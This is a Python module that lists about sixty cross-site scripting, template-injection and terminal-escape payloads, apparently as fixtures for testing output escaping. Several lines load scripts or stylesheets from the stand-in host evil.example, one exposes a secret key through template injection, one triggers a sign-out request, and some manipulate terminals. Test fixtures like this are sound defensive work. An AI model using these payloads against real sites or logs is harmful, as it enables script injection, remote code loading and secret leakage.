"""Sixty texts that are code somewhere: whoever shows one unchanged runs it."""

# Each calls alert(1), loads something, or steers a terminal, where it is taken for more than text.
_RAW = r"""
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
</script><script>alert(1)</script>
<script src=//evil.example/x.js></script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)">
<img/src/onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<body onload=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<details open ontoggle=alert(1)>
<input autofocus onfocus=alert(1)>
<video><source onerror=alert(1)></video>
<marquee onstart=alert(1)>
<form action="javascript:alert(1)"><button>x
<a href="javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<base href="//evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<link rel="stylesheet" href="//evil.example/x.css">
<style>*{background:url("javascript:alert(1)")}</style>
<style>@import "//evil.example/x.css";</style>
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus="alert(1)
"><script>alert(1)</script>
'><script>alert(1)</script>
`-alert(1)-`
'-alert(1)-'
";alert(1);//
');alert(1);//
\";alert(1);//
javascript:alert(1)
JaVaScRiPt:alert(1)
java&#x09;script:alert(1)
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
%3Cscript%3Ealert(1)%3C/script%3E
{{7*7}}{{constructor.constructor('alert(1)')()}}
{% debug %}{{ settings.SECRET_KEY }}
${alert(1)}
#{alert(1)}
<%= alert(1) %>
<div hx-get="/sign-out/" hx-trigger="load">x</div>
<div hx-on::load="alert(1)" data-hx-on:load="alert(1)">x</div>
<div x-data x-init="alert(1)">x</div>
[x](javascript:alert(1)) ![x](x"onerror="alert(1))
color:red;background:url(//evil.example/x)
<!--><img src=x onerror=alert(1)>-->
<template><script>alert(1)</script></template>
＜script＞alert(1)＜/script＞
"""
PAYLOADS = tuple(line for line in _RAW.splitlines() if line)
# For a log: what terminals obey, and what turns the order of signs around.
FOR_LOGS = (
    *PAYLOADS,
    "\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07",
    "\x1b[31m<script>alert(1)</script>\x1b[0m",
    "\x1b]0;title\x07\x9b2J\x1b[2J",
    "\u202e<script>alert(1)</script>\u202c",
)
